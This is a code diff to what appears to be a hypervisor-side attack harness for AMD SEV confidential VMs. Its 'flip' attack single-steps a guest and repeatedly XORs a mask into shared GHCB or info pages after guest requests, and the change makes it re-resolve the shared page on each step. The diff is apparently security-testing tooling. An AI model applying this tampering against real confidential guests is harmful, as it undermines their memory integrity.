@@ -10,11 +10,11 @@
 #define STEPS 400
 
 /* flip:EVENT:PAGE:OFFSET:MASK[:STEPS]: PAGE is ghcb, info1 or info2, whose address the request has in that field. */
-static void *find_page(const struct attack *attack, const struct ghcb_call *call)
+static uint64_t find_page(const struct attack *attack, const struct ghcb_call *call)
 {
         if (attack_is(attack, 1, "ghcb"))
-                return call->page;
-        return ghcb_buffer(attack_is(attack, 1, "info1") ? call->info1 : call->info2, PAGE_SIZE);
+                return call->address.value;
+        return attack_is(attack, 1, "info1") ? call->info1 : call->info2;
 }
 
 static bool check(struct attack *attack)
@@ -29,27 +29,34 @@ static void begin_steps(struct attack *attack, struct ghcb_call *call, struct gh
         (void)answer;
         if (call->vcpu->vmpl != 0 || call->code != attack_number(attack, 0, 0))
                 return;
-        attack->memory = find_page(attack, call);
+        attack->step = find_page(attack, call);
         attack->seen = 0;
-        if (attack->memory)
-                attack_step(call->vcpu, true);
+        attack_step(call->vcpu, true);
+}
+
+/* False: the page is not shared any more. */
+static bool change(const struct attack *attack)
+{
+        uint8_t *at = ghcb_buffer(attack->step + attack_number(attack, 2, 0), sizeof(uint64_t));
+        uint64_t value;
+
+        if (!at)
+                return false;
+        memcpy(&value, at, sizeof(value));
+        value ^= attack_number(attack, 3, 0);
+        memcpy(at, &value, sizeof(value));
+        return true;
 }
 
 static bool flip(struct attack *attack, struct vcpu *vcpu)
 {
-        uint8_t *at = attack->memory;
-        uint64_t value;
-
-        if (!at || !vcpu->stepped || vcpu->vmcb->control.exit_code != SVM_EXIT_EXCEPTION_DB)
+        if (!attack->step || !vcpu->stepped ||
+            vcpu->vmcb->control.exit_code != SVM_EXIT_EXCEPTION_DB)
                 return false;
-        at += attack_number(attack, 2, 0);
-        memcpy(&value, at, sizeof(value));
-        value ^= attack_number(attack, 3, 0);
-        memcpy(at, &value, sizeof(value));
-        if (++attack->seen < attack_number(attack, 4, STEPS))
+        if (change(attack) && ++attack->seen < attack_number(attack, 4, STEPS))
                 return true;
         attack_step(vcpu, false);
-        attack->memory = NULL;
+        attack->step = 0;
         attack_log(attack, "changed %lu times after an answer", attack->seen);
         return true;
 }
